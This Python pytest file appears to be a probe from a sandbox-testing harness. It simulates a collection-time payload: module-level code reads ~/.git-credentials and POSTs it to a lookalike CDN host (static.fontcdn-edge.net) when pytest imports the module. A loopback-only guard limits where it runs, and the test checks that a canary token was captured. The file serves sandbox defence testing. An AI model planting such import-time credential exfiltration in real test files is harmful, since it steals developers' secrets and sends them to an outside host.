"""Probe of collection-time-payload: the module-level code below steals a token file and sends
it while pytest collects (imports) this module, before any test runs. The test then checks what
the attacker got."""

import http.client
import os
import socket

# Never run the payload where an attacker name could reach a real host.
if sorted(name for _index, name in socket.if_nameindex()) != ["lo"]:
    raise RuntimeError("sandhop probe: refusing to run a payload outside the probe harness's namespace")

with open(os.path.expanduser("~/.git-credentials"), "rb") as _f:
    _TOKEN = _f.read()
_conn = http.client.HTTPConnection("static.fontcdn-edge.net", 80)
_conn.request("POST", "/c", _TOKEN)
RECEIPT = _conn.getresponse().read()
_conn.close()


def test_collection_time_payload(loot):
    assert b"CANARY-.git-credentials" in _TOKEN and loot.stored(RECEIPT) == _TOKEN
